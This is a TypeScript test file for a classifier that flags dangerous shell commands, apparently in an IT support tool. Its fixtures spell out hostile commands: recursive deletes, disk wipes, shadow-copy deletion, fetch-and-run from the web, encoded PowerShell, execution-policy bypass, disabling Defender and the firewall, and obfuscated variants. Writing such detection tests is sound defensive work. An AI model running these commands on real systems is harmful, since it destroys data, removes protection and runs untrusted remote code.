import { describe, expect, test } from 'vitest'
import { shippedFlows } from '../../server/flows/shipped.ts'
import { dangersOf } from './command-dangers.ts'

const named = {
  'Deletes files or folders.': [
    'Remove-Item C:\\Temp -Recurse',
    'Remove-Item -Path "C:\\Users\\ann" -Force',
    'R`emove-It`em C:\\Temp -Rec`urse',
    'Get-ChildItem C:\\Temp -Recurse | Remove-Item',
    'rd /s /q C:\\Temp',
    'd^el /f /q *.log',
    'rm -rf /var/tmp',
    'sudo rm --recursive /srv',
    'find / -name "*.log" -delete',
    'robocopy C:\\a D:\\b /MIR',
  ],
  'Erases a disk, a partition or its copies.': [
    'format d: /q',
    'Clear-Disk -Number 1 -RemoveData',
    'diskpart\nselect disk 1\nclean all',
    'echo clean | diskpart',
    'mkfs.ext4 /dev/sdb1',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    'vssadmin delete shadows /all',
  ],
  'Deletes from the registry.': [
    'reg delete HKLM\\Software\\X /f',
    'Remove-ItemProperty HKCU:\\Software\\X -Name Y',
    'Remove-Item HKLM:\\Software\\X',
  ],
  'Runs code from the web, or code that cannot be read here.': [
    'iex (iwr https://x.example/a.ps1)',
    "IEX((New-Object Net.WebClient).DownloadString('https://x.example'))",
    'irm https://x.example/a.ps1 | iex',
    'curl -sL https://x.example/a.sh | sudo bash',
    'powershell -NoProfile -enc SQBFAFgA',
    'mshta https://x.example/a.hta',
  ],
  'Lets scripts run that nobody signed.': [
    'Set-ExecutionPolicy Unrestricted',
    'Set-ExecutionPolicy -Scope Process Bypass',
    'powershell -ExecutionPolicy Bypass -File a.ps1',
    'powershell -ep bypass -File a.ps1',
  ],
  'Turns protection off.': [
    'Set-MpPreference -DisableRealtimeMonitoring $true',
    'Add-MpPreference -ExclusionPath C:\\',
    'netsh advfirewall set allprofiles state off',
    'Set-NetFirewallProfile -All -Enabled False',
    'Stop-Service WinDefend',
    'sc config windefend start= disabled',
    'ufw disable',
    'manage-bde -off C:',
  ],
  'Cuts or resets the network.': [
    'netsh int ip reset',
    'netsh winsock reset',
    'ipconfig /release',
    'Disable-NetAdapter -Name Ethernet',
  ],
  'Deletes from a database.': ['DROP TABLE tickets;', 'truncate table dbo.Log', 'delete from users;'],
  'Deletes an account, a group or a mailbox.': [
    'Remove-ADUser ann',
    'Remove-Mailbox ann@contoso.example',
    'net user ann /delete',
  ],
  'Changes the rights of many files.': ['icacls C:\\Data /reset /t', 'chmod -R 777 /srv', 'chown -R ann /'],
  'Restarts or stops a machine.': ['Restart-Computer -Force', 'shutdown /r /t 0', 'sudo reboot'],
}

describe.each(Object.entries(named))('%s', (words, commands) => {
  test.each(commands)('%s', (command) => {
    expect(dangersOf(command)).toContain(words)
  })
})

test.each([
  'Get-Mailbox | Format-Table Name',
  'Get-Disk | Format-List',
  'Get-ChildItem C:\\ -Recurse -Force | Measure-Object',
  'Get-ChildItem C:\\Temp -Recurse | Remove-Item -WhatIf',
  'Remove-Item C:\\Temp\\a.txt',
  'reg query HKLM\\Software\\X',
  'Get-ExecutionPolicy -List',
  'Invoke-WebRequest https://x.example -UseBasicParsing',
  'netsh wlan show profiles',
  'Get-MpPreference',
  'git clean',
  'SELECT * FROM users WHERE deleted = 0;',
  'DELETE FROM users WHERE id = 7;',
  'Get-NetAdapter | Disable-NetAdapterPowerManagement',
  'Suspend-BitLocker -MountPoint C: -RebootCount 1',
  'icacls C:\\Data /save acl.txt /t',
  '# rm -rf / would delete everything',
  'net use Z: /delete',
])('is harmless: %s', (command) => {
  expect(dangersOf(command)).toEqual([])
})

test('of the shipped flows’ commands few are named', () => {
  const commands = shippedFlows().flatMap(commandsIn)
  const dangerous = commands.filter((command) => dangersOf(command).length > 0)
  expect(commands.length).toBeGreaterThan(300)
  expect(dangerous).toContain('netsh int ip reset; netsh winsock reset')
  expect(dangerous.length / commands.length).toBeLessThan(0.05)
})

function commandsIn(part: unknown): string[] {
  if (typeof part !== 'object' || part === null) return []
  return Object.entries(part).flatMap(([key, value]) =>
    key === 'command' && typeof value === 'string' ? [value] : commandsIn(value),
  )
}

test.each([
  ['blanks', (size: number) => `remove-item${' '.repeat(size)}`],
  ['switches', (size: number) => 'rm -'.repeat(size / 4)],
  ['pipes', (size: number) => 'curl | '.repeat(size / 7)],
  ['words', (size: number) => 'format netsh iex icacls '.repeat(size / 24)],
  ['carets', (size: number) => 'a^'.repeat(size / 2)],
])('many %s are read in linear time', (_name, of) => {
  const cost = { few: Number.POSITIVE_INFINITY, many: Number.POSITIVE_INFINITY }
  const took = (text: string) => {
    const from = process.cpuUsage()
    dangersOf(text)
    const { user, system } = process.cpuUsage(from)
    return user + system
  }
  for (let round = 0; round < 5; round++) {
    cost.few = Math.min(cost.few, took(of(8_000)))
    cost.many = Math.min(cost.many, took(of(16_000)))
  }
  expect(cost.many).toBeLessThan(3 * cost.few + 3_000)
})
